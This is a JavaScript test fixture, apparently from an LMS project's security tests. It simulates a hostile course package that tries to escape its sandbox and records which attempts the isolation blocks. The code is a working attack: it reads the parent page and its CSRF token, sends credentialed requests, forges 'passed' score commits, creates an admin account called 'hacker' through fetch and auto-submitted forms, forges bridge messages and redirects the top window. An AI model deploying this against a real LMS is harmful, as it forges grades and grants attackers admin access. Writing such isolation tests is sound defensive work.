/* A hostile package (issue #16): as whoever views it, it tries to read the LMS page, read LMS pages
 * with the viewer's cookies, post commits and an admin form with those cookies (fetch and real form
 * submissions), forge bridge messages, and navigate the top window. It writes what it achieved into
 * #out (JSON) and sets data-done on <body>. */
(async function () {
  "use strict";
  var lms = new URLSearchParams(window.location.search).get("lms");
  var out = {};
  function attempt(name, fn) {
    try { out[name] = fn(); } catch (e) { out[name] = "blocked"; }
  }
  async function attemptAsync(name, fn) {
    try { out[name] = await fn(); } catch (e) { out[name] = "blocked"; }
  }
  attempt("topDocument", function () { return "read:" + window.top.document.body.innerHTML.length; });
  attempt("topCsrf", function () { return window.top.document.querySelector('meta[name="csrf-token"]').content; });
  attempt("topLocation", function () { return String(window.top.location.href); });
  await attemptAsync("fetchPlayer", async function () {
    var r = await fetch(lms + "/player/", { credentials: "include" });
    return "read:" + (await r.text()).length;
  });
  await attemptAsync("csrf", async function () {
    var r = await fetch(lms + "/admin/users/new", { credentials: "include" });
    var m = /name="csrf_token"[^>]*value="([^"]+)"/.exec(await r.text());
    return m ? m[1] : "";
  });
  var token = out.topCsrf !== "blocked" ? out.topCsrf : (out.csrf !== "blocked" ? out.csrf : "");
  var passed = { "cmi.core.lesson_status": "passed", "cmi.core.score.raw": "100", "cmi.core.exit": "" };
  var posts = [];
  for (var id = 1; id <= 8; id++) {
    ["sco1", "evil"].forEach(function (sco) {
      var url = lms + "/player/attempts/" + id + "/scos/" + sco + "/commit";
      var body = JSON.stringify({ seq: Date.now() * 1000 + id, session: "evil", cmi: passed, terminate: true });
      posts.push(fetch(url, { method: "POST", mode: "no-cors", credentials: "include",
                              headers: { "Content-Type": "text/plain" }, body: body }).catch(function () {}));
      posts.push(fetch(url, { method: "POST", credentials: "include",
                              headers: { "Content-Type": "application/json", "X-CSRFToken": token },
                              body: body }).catch(function () {}));
    });
  }
  var fields = { login: "hacker", full_name: "Kẻ tấn công", roles: "admin", active: "y",
                 password: "matkhau-hacker-123", csrf_token: token };
  posts.push(fetch(lms + "/admin/users/new", { method: "POST", mode: "no-cors", credentials: "include",
                                               body: new URLSearchParams(fields) }).catch(function () {}));
  await Promise.all(posts);
  ["sink", "_blank", "_top"].forEach(function (target) {
    var form = document.createElement("form");
    form.method = "post";
    form.action = lms + "/admin/users/new";
    form.target = target;
    Object.keys(fields).forEach(function (k) {
      var input = document.createElement("input");
      input.type = "hidden"; input.name = k; input.value = fields[k];
      form.appendChild(input);
    });
    document.body.appendChild(form);
    try { form.submit(); } catch (e) { /* refused */ }
  });
  // forged bridge messages, straight to the LMS page (not from the launcher)
  attempt("forged", function () {
    window.top.postMessage({ type: "lms-commit", id: 1, cmi: passed, terminate: true }, "*");
    window.top.postMessage({ type: "lms-terminated", navRequest: "exitAll" }, "*");
    return "sent";
  });
  attempt("topNavigation", function () { window.top.location.href = lms + "/player/?hijacked=1"; return "tried"; });
  await new Promise(function (resolve) { setTimeout(resolve, 800); });
  document.getElementById("out").textContent = JSON.stringify(out);
  document.body.setAttribute("data-done", "1");
})();
